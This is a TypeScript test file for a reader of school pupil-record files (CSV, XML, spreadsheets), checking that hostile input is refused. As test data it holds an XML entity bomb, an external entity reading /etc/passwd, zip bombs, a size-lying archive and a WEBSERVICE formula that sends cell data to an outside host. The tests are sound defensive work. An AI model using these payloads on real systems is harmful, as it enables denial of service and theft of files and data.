import { BlobWriter, TextReader, ZipWriter } from '@zip.js/zip.js';
import { expect, test, vi } from 'vitest';
import { aWorkbook } from '../../tests/builders/a-workbook.ts';
import type { Reading } from '../record/reading.ts';
import { type Fault, FileFault } from './file-fault.ts';
import { inspect, type Inspection } from './inspect.ts';
import type { Problem } from './problem.ts';
import { readFile } from './read-file.ts';

const ABOUT = { system: 'somewhere', agency: 'school', readAt: '2026-03-12T09:00:00Z' };

/** What was read until the end, or until the file could not be read on. */
async function outcome(file: File, found?: Inspection): Promise<{ fault?: Fault; readings: Reading[]; problems: Problem[] }> {
  const readings: Reading[] = [];
  const problems: Problem[] = [];
  try {
    for await (const batch of readFile(file, found ?? (await inspect(file)), ABOUT)) {
      readings.push(...batch.readings);
      problems.push(...batch.problems);
    }
    return { readings, problems };
  } catch (error) {
    if (error instanceof FileFault) return { fault: error.fault, readings, problems };
    throw error;
  }
}

const text = (content: string, name = 'file.csv') => new File([content], name);
const pupil = (inside: string, before = '') => text(`<?xml version="1.0"?>${before}<CTfile><CTFpupilData><Pupil><UPN>K873999924001</UPN>${inside}</Pupil></CTFpupilData></CTfile>`, 'ctf.xml');

const BOMB = `<!DOCTYPE lolz [<!ENTITY a "${'ha'.repeat(50)}">${'bcdefghij'.split('').map((name, at) => `<!ENTITY ${name} "${`&${'abcdefghi'[at]};`.repeat(10)}">`).join('')}]>`;

test('an XML bomb goes off nowhere', async () => {
  expect(await outcome(pupil('<Surname>&j;</Surname>', BOMB))).toMatchObject({ fault: { why: 'document-type-refused' }, readings: [] });
});

test('an external entity is never fetched', async () => {
  const fetched = vi.spyOn(globalThis, 'fetch');
  expect(await outcome(pupil('<Surname>&x;</Surname>', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'))).toMatchObject({ fault: { why: 'document-type-refused' } });
  expect(await outcome(pupil('<Surname>&x;</Surname>'))).toMatchObject({ fault: { why: 'xml-broken', line: 1 } });
  expect(fetched).not.toHaveBeenCalled();
});

test.each<[string, File, Fault['why']]>([
  ['too deep', pupil('<a>'.repeat(100) + '</a>'.repeat(100)), 'xml-too-deep'],
  ['one child without end', pupil('<a/>'.repeat(30_000)), 'xml-too-large'],
  ['text without end', pupil('x'.repeat(5_000_000)), 'xml-too-large'],
  ['torn off', text('<CTfile><CTFpupilData><Pupil><Surname>A', 'ctf.xml'), 'xml-broken'],
  ['a root that nobody knows', text('<html><body/></html>', 'a.xml'), 'kind-unknown'],
])('XML: %s', async (_, file, why) => {
  expect((await outcome(file)).fault?.why).toBe(why);
});

test('what was whole before XML broke stands', async () => {
  const whole = '<Pupil><Surname>Reed</Surname><Forename>Tom</Forename></Pupil>'.repeat(4000);
  const { fault, readings } = await outcome(text(`<CTfile><CTFpupilData>${whole}<Pupil></Surname>`, 'ctf.xml'));
  expect(fault?.why).toBe('xml-broken');
  expect(readings.length).toBeGreaterThan(1000);
});

test('a zip bomb is left before it has unpacked', async () => {
  const zeros = '<row r="1">'.padEnd(300 * 1024 * 1024, ' ');
  const bomb = await aWorkbook([], { parts: { 'xl/sharedStrings.xml': zeros } });
  expect(bomb.size).toBeLessThan(2_000_000);
  expect((await outcome(bomb)).fault).toMatchObject({ why: 'unpacks-too-large' });
}, 60_000);

test('an archive that lies about its size', async () => {
  const book = await aWorkbook([['Forename', 'Surname'], ['Tom', 'Reed']], { parts: { 'xl/sharedStrings.xml': `<sst>${'<si><t>a</t></si>'.repeat(10_000)}</sst>` } });
  const bytes = new Uint8Array(await book.arrayBuffer());
  const view = new DataView(bytes.buffer);
  for (let at = 0; at < bytes.length - 46; at += 1) if (view.getUint32(at, true) === 0x02014b50) view.setUint32(at + 24, 10, true);
  expect((await outcome(new File([bytes], 'book.xlsx'))).fault).toBeDefined();
});

test.each<[string, () => Promise<File> | File, Fault['why']]>([
  ['no workbook', async () => new File([await zipped({ 'a.txt': 'hello' })], 'a.xlsx'), 'not-a-workbook'],
  ['cut in half', async () => { const whole = await aWorkbook([['Forename', 'Surname']]); return new File([whole.slice(0, Math.floor(whole.size / 2))], 'a.xlsx'); }, 'archive-broken'],
  ['of thousands of parts', async () => new File([await zipped(Object.fromEntries(Array.from({ length: 2100 }, (_, at) => [`${at}`, ''])))], 'a.xlsx'), 'unpacks-too-large'],
  ['old, or locked by a password', () => new File([new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1])], 'a.xls'), 'old-or-locked-workbook'],
  ['with an entity in its sheet', () => aWorkbook([], { sheet: `${BOMB}<worksheet><sheetData><row><c t="inlineStr"><is><t>&j;</t></is></c></row></sheetData></worksheet>` }), 'document-type-refused'],
  ['with a cell far to the right', () => aWorkbook([[{ xml: '<c r="XFD1" t="inlineStr"><is><t>Forename</t></is></c>' }]]), 'too-many-columns'],
])('a workbook: %s', async (_, file, why) => {
  expect((await outcome(await file())).fault?.why).toBe(why);
});

test('what lies outside a workbook is never looked at, and formulas are never worked out', async () => {
  const fetched = vi.spyOn(globalThis, 'fetch');
  const book = await aWorkbook([
    ['Forename', 'Surname', 'Date of birth'],
    [{ xml: '<c t="str"><f>WEBSERVICE("http://x.example/"&amp;A1)</f><v>Tom</v></c>' }, 'Reed', { xml: '<c><f>TODAY()-3000</f></c>' }],
  ]);
  const { readings, problems } = await outcome(book);
  expect(readings[0]!.people).toMatchObject([{ given: 'Tom', family: 'Reed' }]);
  expect(problems).toEqual([{ row: 2, sheet: 'Sheet1', column: 'Date of birth', why: 'formula-without-result' }]);
  expect(fetched).not.toHaveBeenCalled();
});

test('10,000 columns, as headers and in one row', async () => {
  const wide = Array.from({ length: 10_000 }, (_, at) => `Column ${at}`).join(',');
  expect((await outcome(text(`Forename,Surname,${wide}\nTom,Reed\n`))).fault).toMatchObject({ why: 'too-many-columns', row: 1 });
  expect((await outcome(text(`Forename,Surname\nTom,Reed\nAnn,Reed,${wide}\n`))).fault).toMatchObject({ why: 'too-many-columns', row: 3 });
});

test('a quote that is never closed spoils its own row, not the memory', async () => {
  const { problems } = await outcome(text('Forename,Surname\nTom,"Reed\nAnn,Reed\n'));
  expect(problems).toMatchObject([{ row: 2, why: 'quotes-broken' }]);
  expect((await outcome(text(`Forename,Surname\nTom,"Reed\n${'Ann,Reed\n'.repeat(200_000)}`))).fault).toMatchObject({ why: 'row-too-long', row: 2 });
});

test('a row that has lost its quotes is not believed', async () => {
  const { readings, problems } = await outcome(text('Forename,Surname,Address,Postcode\nTom,Reed,4 Mill Lane, Harrowmere,HM4 7QZ\nAnn,Reed,,\n'));
  expect(readings.map(({ people: [child] }) => child!.given)).toEqual(['Ann']);
  expect(problems).toEqual([{ row: 2, why: 'more-cells-than-columns' }]);
});

test('a character that was lost on the way is told by row and column', async () => {
  const { readings, problems } = await outcome(text('Forename,Surname\nZo\ufffd,Reed\nZoë,Reed\n'));
  expect(problems).toEqual([{ row: 2, column: 'Forename', value: 'Zo\ufffd', why: 'encoding-broken' }]);
  expect(readings[0]!.people[0]).not.toHaveProperty('given');
});

test('a cell of a novel is narrative whatever its header', async () => {
  const { readings, problems } = await outcome(text(`Forename,Surname,Address\nTom,Reed,${'He said that. '.repeat(1000)}\n`));
  expect(problems).toMatchObject([{ row: 2, column: 'Address', why: 'too-long' }]);
  expect(JSON.stringify(readings)).not.toContain('He said');
});

test.each<[string, BlobPart, Fault['why']]>([
  ['nothing at all', '', 'empty'],
  ['nothing but blanks', '\ufeff \r\n\r\n ', 'empty'],
  ['a picture', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, 0, 0, 0, 13, 73, 72, 68, 82]), 'not-text'],
  ['a PDF', '%PDF-1.7 ...', 'not-text'],
])('%s is no file of rows', async (_, content, why) => {
  expect((await outcome(new File([content], 'file'))).fault?.why).toBe(why);
});

test('columns that changed since the file was looked into stop it', async () => {
  const found = await inspect(text('Forename,Surname\nTom,Reed\n'));
  expect((await outcome(text('Surname,UPN\nReed,Tom\n'), found)).fault).toEqual({ why: 'columns-changed' });
});

test('people for adoption, and those who adopt, are never read', async () => {
  expect((await outcome(text('Individual adopter identifier,Family identifier,Forename\n1,2,Ann\n'))).fault).toEqual({ why: 'adoption-list' });
});

test('a file that never ends is read as it comes, and closed when nobody takes more', async () => {
  let pulled = 0;
  let closed = false;
  const row = new TextEncoder().encode('Tom,Reed,2018-05-04\n'.repeat(3000));
  class Endless extends File {
    override get size(): number {
      return 2 ** 31;
    }
    override stream(): ReadableStream<Uint8Array<ArrayBuffer>> {
      return new ReadableStream({
        pull(controller) {
          controller.enqueue(pulled === 0 ? new TextEncoder().encode('Forename,Surname,DOB\n') : row);
          pulled += 1;
        },
        cancel() {
          closed = true;
        },
      });
    }
  }
  const beginning = 'Forename,Surname,DOB\nTom,Reed,2018-05-04\n';
  const found = await inspect(text(beginning));
  let batches = 0;
  for await (const { readings } of readFile(new Endless([beginning], 'endless.csv'), found, ABOUT)) {
    expect(readings).toHaveLength(500);
    batches += 1;
    if (batches === 60) break;
  }
  expect(closed).toBe(true);
  expect(pulled).toBeLessThan(20);
});

async function zipped(parts: Record<string, string>): Promise<Blob> {
  const zip = new ZipWriter(new BlobWriter(), { useWebWorkers: false });
  for (const [name, content] of Object.entries(parts)) await zip.add(name, new TextReader(content));
  return zip.close();
}
